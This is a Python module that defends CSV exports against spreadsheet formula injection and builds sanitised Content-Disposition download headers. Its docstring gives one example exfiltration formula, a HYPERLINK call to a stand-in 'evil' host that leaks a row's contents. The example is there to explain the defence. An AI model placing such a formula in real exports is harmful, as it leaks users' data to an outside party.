"""CSV for spreadsheets: cells a spreadsheet would run as a formula are neutralised.

Excel, LibreOffice and Google Sheets treat a cell starting with = + - @ (and tab or carriage
return, which some of them strip first) as a formula: `=HYPERLINK("http://evil/?"&A1)` leaks
the row. Such text is written with a leading apostrophe, the OWASP advice; numbers stay numbers.
"""

import csv
import re
import unicodedata
from urllib.parse import quote

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell_neutralise(value):
    """The cell as a spreadsheet will show it, never as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeCsvWriter:
    """csv.writer whose rows go through csv_cell_neutralise: every export uses this."""

    def __init__(self, stream, **kwargs):
        self._writer = csv.writer(stream, **kwargs)

    def writerow(self, row):
        return self._writer.writerow([csv_cell_neutralise(cell) for cell in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def csv_writer(stream, **kwargs) -> SafeCsvWriter:
    return SafeCsvWriter(stream, **kwargs)


# Characters no file system or browser keeps in a file name, and controls.
_UNSAFE_IN_FILENAME = re.compile(r'[\x00-\x1f\x7f/\\:*?"<>|;]+')


def attachment_disposition(*, filename: str, fallback: str) -> str:
    """Content-Disposition for a download named `filename` (any language, RFC 6266/5987):
    `filename*` carries it in UTF-8 for every current browser, `filename` a plain ASCII name for
    the rest. Characters a file name cannot hold become "-" in both."""
    name = _UNSAFE_IN_FILENAME.sub("-", unicodedata.normalize("NFC", filename)).strip(" .-")
    ascii_name = (
        _UNSAFE_IN_FILENAME.sub("-", fallback.encode("ascii", "ignore").decode()).strip(" .-")
        or "download"
    )
    return f"attachment; filename=\"{ascii_name}\"; filename*=UTF-8''{quote(name or ascii_name, safe='')}"
